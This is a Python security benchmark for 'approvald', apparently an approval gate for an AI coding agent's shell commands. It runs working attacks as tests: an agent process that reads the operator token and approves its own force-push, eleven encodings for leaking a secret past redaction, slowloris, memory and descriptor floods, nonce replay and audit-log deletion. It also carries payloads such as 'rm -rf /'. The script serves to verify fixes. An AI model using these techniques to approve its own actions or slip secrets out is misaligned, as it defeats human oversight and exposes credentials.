"""Issue 11's findings, measured against any approvald build: before and after a fix.

Standard library only, driving `approvald` as a user would (real daemon, real hooks, a stand-in
agent process tree, raw sockets), so the same script measures an older checkout too:

    python3 benchmarks/bench_security.py [--exe PATH/TO/approvald] [--only NAME ...]

Each line is one finding: what happened, and the figure (seconds, MB, status codes).
Bounded throughout: every wait has a cap, and a cap reached is reported as "> N s".
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import hmac
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

CAP_S = 60.0
PUSH = "git push --force origin main"


def payload(command: str, session: str = "bench", cwd: str = "/tmp") -> bytes:
    return json.dumps({"session_id": session, "transcript_path": "/tmp/t.jsonl", "cwd": cwd,
                       "permission_mode": "default", "hook_event_name": "PreToolUse",
                       "tool_name": "Bash", "tool_input": {"command": command},
                       "tool_use_id": "toolu_bench"}).encode()


class Home:
    def __init__(self, exe: str, config: str = "", **env: str):
        self.exe = exe
        self.dir = Path(tempfile.mkdtemp(prefix="ads-", dir="/tmp"))
        self.env = {k: v for k, v in os.environ.items() if not k.startswith("APPROVALD_")}
        self.env.update(APPROVALD_HOME=str(self.dir), APPROVALD_DOCTOR_WATCH="0", **env)
        self.env["PATH"] = str(Path(exe).parent) + os.pathsep + self.env.get("PATH", "")
        if config:
            (self.dir / "config.toml").write_text(config)
        self.daemon: subprocess.Popen[bytes] | None = None
        self.sock = self.dir / "run" / "approvald.sock"

    def run(self, *args: str, stdin: bytes = b"", timeout: float = CAP_S,
            wrap: list[str] | None = None) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run([*(wrap or []), self.exe, *args], input=stdin, env=self.env,
                              capture_output=True, timeout=timeout)

    def start(self, wrap: list[str] | None = None) -> Home:
        self.daemon = subprocess.Popen([*(wrap or []), self.exe, "daemon"], env=self.env,
                                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            if self.run("status", "--json", timeout=10).returncode == 0:
                return self
            time.sleep(0.1)
        raise SystemExit("the daemon did not start")

    def stop(self) -> None:
        if self.daemon is not None and self.daemon.poll() is None:
            self.daemon.terminate()
            try:
                self.daemon.wait(15)
            except subprocess.TimeoutExpired:
                self.daemon.kill()

    def close(self) -> None:
        self.stop()
        shutil.rmtree(self.dir, ignore_errors=True)

    def pending(self) -> list[dict[str, object]]:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            out = self.run("approvals", "list", "--json", timeout=10)
            if out.returncode == 0:
                items = json.loads(out.stdout or b"[]")
                items = items.get("approvals", items) if isinstance(items, dict) else items
                if items:
                    return list(items)
            time.sleep(0.1)
        return []

    def peak_rss_mb(self) -> float:
        assert self.daemon is not None
        for line in Path(f"/proc/{self.daemon.pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
        return float("nan")


@contextlib.contextmanager
def home(exe: str, config: str = "", start: bool = True, **env: str) -> Iterator[Home]:
    h = Home(exe, config, **env)
    try:
        if start:
            h.start()
        yield h
    finally:
        h.close()


def hook_answer(stdout: bytes) -> str:
    text = stdout.decode(errors="replace").strip()
    if not text:
        return "allow (empty output)"
    try:
        return str(json.loads(text)["hookSpecificOutput"]["permissionDecision"])
    except (ValueError, KeyError):
        return f"unreadable: {text[:60]!r}"


def timed_hook(h: Home, body: bytes, cap: float = CAP_S) -> tuple[str, float]:
    started = time.monotonic()
    try:
        out = h.run("hook", "claude-code", stdin=body, timeout=cap)
    except subprocess.TimeoutExpired:
        return "no answer (killed)", cap
    return hook_answer(out.stdout), time.monotonic() - started


# -- the findings ---------------------------------------------------------------------------------

AGENT = r'''
import json, subprocess, sys, time
hook_cmd, attack_cmd, go = sys.argv[1], sys.argv[2], sys.argv[3]
hook = subprocess.Popen(["sh", "-c", hook_cmd], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
hook.stdin.write(sys.stdin.buffer.read()); hook.stdin.close()
while not __import__("os").path.exists(go):
    time.sleep(0.05)
approval = open(go).read().strip()
attack = subprocess.run(["sh", "-c", attack_cmd + " " + approval], capture_output=True, text=True)
print(json.dumps(attack.stdout.strip() or attack.stderr.strip()[-200:]), flush=True)
print(json.dumps(hook.stdout.read().decode()), flush=True)
hook.wait()
'''

ATTACK = r'''
import json, socket, subprocess, sys
paths = json.loads(subprocess.run(["approvald", "paths", "--json"], capture_output=True,
                                  text=True).stdout)
token = open(paths["state"] + "/operator.token").read().strip()
def call(method, target, body=None):
    data = json.dumps(body).encode() if body is not None else b""
    s = socket.socket(socket.AF_UNIX); s.connect(paths["socket"])
    s.sendall((f"{method} {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
               f"Authorization: Bearer {token}\r\nContent-Type: application/json\r\n"
               f"Content-Length: {len(data)}\r\n\r\n").encode() + data)
    raw = b""
    while chunk := s.recv(65536): raw += chunk
    return int(raw.split(b" ", 2)[1])
print(json.dumps({"list": call("GET", "/v1/approvals"),
                  "approve": call("POST", f"/v1/approvals/{sys.argv[1]}/approve",
                                  {"by": "dashboard"})}))
'''


def self_approval(exe: str) -> str:
    with home(exe) as h:
        script = h.dir / "x.py"
        script.write_text(ATTACK)
        go = h.dir / "go"
        agent = subprocess.Popen(
            [sys.executable, "-c", AGENT, f"{h.exe} hook claude-code",
             f"{sys.executable} {script}", str(go)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=h.env)
        assert agent.stdin is not None
        agent.stdin.write(payload(PUSH))
        agent.stdin.close()
        items = h.pending()
        if not items:
            agent.kill()
            return "no pending approval appeared"
        go.write_text(str(items[0]["id"]))
        assert agent.stdout is not None
        attack = json.loads(agent.stdout.readline())
        # The person then denies whatever is still pending (an approved push answers at once).
        h.run("approvals", "deny", str(items[0]["id"]), "--reason", "bench")
        result = {"attack": attack, "hook": json.loads(agent.stdout.readline())}
        agent.wait(CAP_S)
        got = json.loads(h.run("approvals", "list", "--json", "--all").stdout or b"[]")
        got = got.get("approvals", got) if isinstance(got, dict) else got
        by = next((i.get("decided_by") for i in got if i["id"] == items[0]["id"]), None)
        return (f"attack list/approve: {result['attack']}; waiting push -> "
                f"{hook_answer(result['hook'].encode())}; decided_by={by}")


class Fake:
    def __init__(self, path: Path, behaviour: str):
        path.parent.mkdir(parents=True, exist_ok=True)
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(str(path))
        self.sock.listen(4)
        self.stop = threading.Event()
        self.behaviour = behaviour
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self) -> None:
        self.sock.settimeout(0.2)
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            threading.Thread(target=self.answer, args=(conn,), daemon=True).start()

    def answer(self, conn: socket.socket) -> None:
        with contextlib.suppress(OSError):
            conn.recv(65536)
            if self.behaviour == "silent":
                self.stop.wait(CAP_S + 5)
            elif self.behaviour == "trickle":
                for byte in b"HTTP/1.1 200 OK\r\nX: " + b"a" * 100_000:
                    if self.stop.wait(0.5):
                        break
                    conn.sendall(bytes([byte]))
            else:
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        conn.close()

    def close(self) -> None:
        self.stop.set()
        self.sock.close()


def hook_worst_case(exe: str) -> str:
    timeout = 30
    parts = []
    for behaviour in ("silent", "trickle", "empty-200"):
        with home(exe, config=f"hook_timeout_s = {timeout}\n", start=False) as h:
            (h.dir / "state").mkdir(parents=True, exist_ok=True)
            (h.dir / "state" / "client.token").write_text("not-known-to-the-fake\n")
            fake = Fake(h.sock, behaviour)
            try:
                answer, took = timed_hook(h, payload("rm -rf /"))
            finally:
                fake.close()
            parts.append(f"{behaviour}: {answer} in {took:.1f} s")
    return f"install wrote {timeout} s; " + "; ".join(parts)


def body_cap(exe: str) -> str:
    with home(exe) as h:
        sock = socket.socket(socket.AF_UNIX)
        sock.connect(str(h.sock))
        sock.sendall(b"POST /v1/decide HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
        chunk = b"%x\r\n%s\r\n" % (1 << 20, b"x" * (1 << 20))
        sent = 0
        with contextlib.suppress(OSError):
            for _ in range(200):
                sock.sendall(chunk)
                sent += 1
            sock.sendall(b"0\r\n\r\n")
        sock.settimeout(CAP_S)
        answer = b""
        with contextlib.suppress(OSError):
            while piece := sock.recv(65536):
                answer += piece
        sock.close()
        return (f"{answer[:12].decode(errors='replace') or 'no answer'} after {sent} MB sent; "
                f"daemon peak RSS {h.peak_rss_mb():.0f} MB")


def bomb(exe: str) -> str:
    with home(exe) as h:
        project = h.dir / "bomb"
        project.mkdir()
        scripts = {"a": " && ".join(f"npm run b{i}" for i in range(44))}
        for i in range(44):
            scripts[f"b{i}"] = " && ".join(f"npm run c{j}" for j in range(44))
            scripts[f"c{i}"] = " && ".join(f"npm run d{j}" for j in range(44))
            scripts[f"d{i}"] = "echo ok"
        (project / "package.json").write_text(json.dumps({"scripts": scripts}))
        result: dict[str, object] = {}

        def run_bomb() -> None:
            result["bomb"] = timed_hook(h, payload("npm run a", "bomb", str(project)), CAP_S)

        thread = threading.Thread(target=run_bomb)
        thread.start()
        time.sleep(1.0)
        answer, waited = timed_hook(h, payload("ls", "other"), CAP_S)
        thread.join()
        bomb_answer, bomb_took = result["bomb"]  # type: ignore[misc]
        return (f"other session's ls: {answer} after {waited:.2f} s; the bomb: {bomb_answer} "
                f"after {bomb_took:.1f} s; daemon peak RSS {h.peak_rss_mb():.0f} MB")


def _proof_v1(token: str, nonce: str, method: str, target: str, body: bytes) -> str:
    return hmac.new(token.encode(), f"client:{nonce}:{method} {target}".encode(),
                    "sha256").hexdigest()


def _proof_v2(token: str, nonce: str, method: str, target: str, body: bytes) -> str:
    digest = hashlib.sha256(body).hexdigest()
    return hmac.new(token.encode(), f"client:{nonce}:{method} {target}:{digest}".encode(),
                    "sha256").hexdigest()


def replay(exe: str) -> str:
    with home(exe, APPROVALD_TRANSPORT="tcp") as h:
        port = int((h.dir / "run" / "endpoint").read_text().strip().rsplit(":", 1)[1])
        token = (h.dir / "state" / "client.token").read_text().strip()
        body = payload("ls")

        def send(proof: Callable[..., str], nonce: str, sent_body: bytes) -> int:
            head = (f"POST /v1/hook/claude-code HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                    f"X-Approvald-Client: {nonce}."
                    f"{proof(token, nonce, 'POST', '/v1/hook/claude-code', body)}\r\n"
                    f"Content-Length: {len(sent_body)}\r\n\r\n").encode()
            with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
                conn.sendall(head + sent_body)
                return int(conn.recv(64).split(b" ", 2)[1])

        for name, proof in (("v2", _proof_v2), ("v1", _proof_v1)):
            nonce = f"{int(time.time() * 1000):012x}{os.urandom(10).hex()}"
            if send(proof, nonce, body) == 200:
                again = send(proof, nonce, body)
                other = send(proof, f"{int(time.time() * 1000):012x}{os.urandom(10).hex()}",
                             payload("rm -rf /"))
                return f"proof {name}: replayed nonce -> {again}; another body -> {other}"
        return "no proof format accepted"


def audit(exe: str) -> str:
    parts = []
    with home(exe, start=False) as h:
        (h.dir / "audit").write_text("not a directory")
        parts.append(f"no daemon, log unwritable, ls -> {timed_hook(h, payload('ls'))[0]}")
    with home(exe) as h:
        timed_hook(h, payload("ls"))
        active = h.dir / "audit" / "audit.jsonl"
        active.unlink()
        active.mkdir()
        parts.append(f"daemon, first ls after the log broke -> "
                     f"{timed_hook(h, payload('ls', 's2'))[0]}")
    with home(exe) as h:
        for command in ("ls", "pwd", "cat .env"):
            timed_hook(h, payload(command))
        h.stop()
        shutil.rmtree(h.dir / "audit")
        parts.append(f"every file deleted: verify exit {h.run('audit', 'verify').returncode}")
    return "; ".join(parts)


def slowloris(exe: str) -> str:
    with home(exe) as h:
        sock = socket.socket(socket.AF_UNIX)
        sock.connect(str(h.sock))
        sock.sendall(b"POST /v1/decide HTTP/1.1\r\n")
        started = time.monotonic()
        while time.monotonic() - started < CAP_S:
            try:
                sock.sendall(b"X: a\r\n")
                sock.settimeout(1)
                if sock.recv(1) == b"":
                    return f"closed after {time.monotonic() - started:.1f} s"
            except TimeoutError:
                continue
            except OSError:
                return f"closed after {time.monotonic() - started:.1f} s"
        return f"still open after {CAP_S:.0f} s"


def descriptors(exe: str) -> str:
    wrap = ["sh", "-c", 'ulimit -n 200; exec "$0" "$@"']
    with home(exe, start=False) as h:
        h.start(wrap=wrap)
        conns = []
        for _ in range(400):
            s = socket.socket(socket.AF_UNIX)
            s.setblocking(True)
            try:
                s.connect(str(h.sock))
            except OSError:
                s.close()
                break
            conns.append(s)
        for s in conns:
            s.close()
        started = time.monotonic()
        while time.monotonic() - started < 30:
            if h.run("status", "--json", timeout=10).returncode == 0:
                return (f"{len(conns)} connections opened and closed; status answers again "
                        f"after {time.monotonic() - started:.1f} s")
            time.sleep(0.5)
        return f"{len(conns)} connections opened and closed; no answer within 30 s"


def bad_input(exe: str) -> str:
    parts = []
    with home(exe) as h:
        head = b'{"session_id": "s", "cwd": "/tmp", "tool_name": "Bash", "tool_input": '
        for name, raw in (("lone surrogate", head + b'{"command": "echo \\ud800"}}'),
                          ("NaN", head + b'{"command": "ls", "timeout": NaN}}')):
            out = h.run("hook", "claude-code", stdin=raw)
            parts.append(f"{name} -> {hook_answer(out.stdout)}")
        h.stop()
        logs = "".join(p.read_text(errors="replace") for p in (h.dir / "log").glob("*"))
        parts.append(f"tracebacks in the daemon log: {logs.count('Traceback')}")
    return "; ".join(parts)


def _unhex(data: bytes) -> bytes:
    return bytes.fromhex(data.decode().replace(" ", "").replace("\n", ""))


def _unjson(data: bytes) -> bytes:
    return str(json.loads('"' + data.decode().strip() + '"')).encode()


def _rot13(data: bytes) -> bytes:
    import codecs

    return codecs.encode(data.decode(), "rot13").encode()


def _gunzip64(data: bytes) -> bytes:
    import base64
    import gzip

    return gzip.decompress(base64.b64decode(data))


# name -> (shell line printing $T transformed, how a reader gets the value back from the output)
EXEC_CASES: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "raw": ('printf %s "$T"', lambda d: d),
    "base64": ('printf %s "$T" | base64', lambda d: __import__("base64").b64decode(d)),
    "xxd -p": ('printf %s "$T" | xxd -p', _unhex),
    "od -An -tx1": ('printf %s "$T" | od -An -tx1', _unhex),
    "hex upper": ('printf %s "$T" | od -An -tx1 | tr -d " \\n" | tr a-f A-F', _unhex),
    "rev": ('printf %s "$T" | rev', lambda d: d.strip()[::-1]),
    "json \\u": ('printf %s "$T" | od -An -tx1 -v | tr -s " \\n" " " | '
                  'sed "s/ \\([0-9a-f]*\\)/\\\\\\\\u00\\1/g"', _unjson),
    "half per stream": ('printf %s "$T" | head -c 10; printf %s "$T" | tail -c +11 >&2',
                        lambda d: d),
    "rot13": ('printf %s "$T" | tr A-Za-z N-ZA-Mn-za-m', _rot13),
    "spaced": ('printf %s "$T" | sed "s/./& /g"', lambda d: d.replace(b" ", b"")),
    "gzip|base64": ('printf %s "$T" | gzip | base64', _gunzip64),
}


def exec_redaction(exe: str) -> str:
    python = str(Path(exe).parent / "python")
    value = "s3cr3t-Value/with+chars==Zq7"
    leaked = []
    for name, (line, undo) in EXEC_CASES.items():
        code = ("import io, sys\nfrom approvald.secrets.exec import run_redacted\n"
                "o, e = io.BytesIO(), io.BytesIO()\n"
                f"run_redacted(['sh', '-c', {line!r}], env_values={{'T': {value!r}}}, "
                f"secrets=[('T', {value!r})], stdout=o, stderr=e)\n"
                "sys.stdout.buffer.write(o.getvalue() + b'\\0' + e.getvalue())")
        out = subprocess.run([python, "-c", code], capture_output=True, timeout=CAP_S).stdout
        stdout, _, stderr = out.partition(b"\0")
        try:
            recovered = undo(stdout + stderr)
        except Exception:
            recovered = b""
        if value.encode() in recovered:
            leaked.append(name)
    return f"{len(leaked)} of {len(EXEC_CASES)} leak: {', '.join(leaked) or 'none'}"


FINDINGS: dict[str, Callable[[str], str]] = {
    "self-approval": self_approval, "hook-worst-case": hook_worst_case, "bomb": bomb,
    "body-cap": body_cap, "slowloris": slowloris, "descriptors": descriptors,
    "replay": replay, "audit": audit, "bad-input": bad_input, "exec": exec_redaction,
}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--exe", default=shutil.which("approvald",
                                                      path=os.path.dirname(sys.executable)))
    parser.add_argument("--only", nargs="*", choices=list(FINDINGS))
    opts = parser.parse_args()
    for name in opts.only or FINDINGS:
        try:
            print(f"{name}: {FINDINGS[name](opts.exe)}", flush=True)
        except Exception as exc:  # one finding's failure does not hide the others
            print(f"{name}: could not measure ({type(exc).__name__}: {exc})", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
